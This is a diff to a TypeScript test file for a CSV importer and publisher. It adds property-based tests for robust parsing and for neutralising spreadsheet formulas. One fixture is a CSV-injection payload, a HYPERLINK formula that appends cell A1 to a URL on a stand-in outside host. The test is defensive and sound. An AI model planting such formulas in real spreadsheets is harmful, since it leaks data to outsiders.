@@ -1,14 +1,17 @@
 import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import fc from 'fast-check';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { z } from 'zod';
 import { readContent } from '../../../src/pipeline/content.ts';
 import { importRegister } from '../../../src/pipeline/register/import-register.ts';
 import { registerReportText } from '../../../src/pipeline/register/register-report.ts';
 import { csvTable } from '../../../src/publish/plate-table.ts';
 import { parseCsv, separatorOf } from '../../../src/records/register/csv.ts';
 import { mappingSchema } from '../../../src/records/register/mapping.ts';
-import { slugOf } from '../../../src/records/register/register-plate.ts';
+import { readRegisterRow, slugOf } from '../../../src/records/register/register-plate.ts';
+import { readFrontMatter } from '../../../src/records/yaml-door.ts';
 
 describe('parseCsv', () => {
   test('reads what RFC 4180, section 2 gives as examples', () => {
@@ -45,6 +48,87 @@ describe('parseCsv', () => {
       width: '70',
       credit: '',
     });
+  });
+});
+
+describe('a table that anybody may have written', () => {
+  const piece = fc.constantFrom(
+    ...[
+      '"',
+      '""',
+      ',',
+      ';',
+      '\t',
+      '|',
+      '\n',
+      '\r\n',
+      '\r',
+      ' ',
+      '\uFEFF',
+      '\0',
+      'a',
+      'é',
+      '🪞',
+      '=',
+    ],
+  );
+  const text = fc.oneof(
+    fc.string(),
+    fc.array(piece, { maxLength: 60 }).map((pieces) => pieces.join('')),
+  );
+
+  test('is read to its end, each row under the columns and on a line of the file', () => {
+    fc.assert(
+      fc.property(text, (source) => {
+        const { columns, rows, faults } = parseCsv(source);
+        const lines = source.split('\n').length;
+        for (const { line } of [...rows, ...faults]) {
+          expect(line).toBeGreaterThanOrEqual(1);
+          expect(line).toBeLessThanOrEqual(lines);
+        }
+        for (const { cells } of rows)
+          expect(columns).toEqual(expect.arrayContaining(Object.keys(cells)));
+      }),
+      { numRuns: 1000 },
+    );
+  });
+
+  test('comes back from what the exhibit publishes, and no cell of that is a formula', () => {
+    // Without blanks around it, as the records' texts are.
+    const word = text.map((one) => one.trim());
+    const titles = fc.array(word, { minLength: 1, maxLength: 5 });
+    fc.assert(
+      fc.property(titles, (values) => {
+        const published = csvTable(values.map((title, k) => ({ slug: `p-${k}`, title })));
+        const { rows } = parseCsv(published, ',');
+        expect(rows.map(({ cells }) => cells['title'].replace(/^'(?=[=+\-@])/, ''))).toEqual(
+          values.map((title) => title.replace(/^'(?=[=+\-@])/, '')),
+        );
+        for (const { cells } of rows) expect(cells['title']).not.toMatch(/^[=+\-@]/);
+      }),
+      { numRuns: 500 },
+    );
+  });
+
+  test('a formula is taken as the text that it is, with or without its apostrophe', async () => {
+    const mapping = mappingSchema.parse({ slug: 'slug', fields: { title: 'title' } });
+    const formula = '=HYPERLINK("https://elsewhere.example/?"&A1,"x")';
+    for (const cell of [formula, `'${formula}`]) {
+      const row = { line: 2, cells: { slug: 'p-1', title: cell } };
+      const read = readRegisterRow(row, mapping);
+      expect(read.ok && read.plate.fields['title']).toBe(formula);
+    }
+    const folder = await mkdtemp(join(tmpdir(), 'mirrorleaf-formula-'));
+    const text = csvTable([{ slug: 'p-1', title: formula }]);
+    await importRegister({ text, mapping, content: folder, dryRun: false });
+    // As YAML it is a string, whatever it begins with.
+    const record = await readFile(join(folder, 'plates/p-1/plate.md'), 'utf8');
+    const read = readFrontMatter(
+      { plate: 'p-1', file: 'plate.md', text: record },
+      z.looseObject({}),
+    );
+    expect(read.ok && read.value['title']).toBe(formula);
+    await rm(folder, { recursive: true });
   });
 });
 
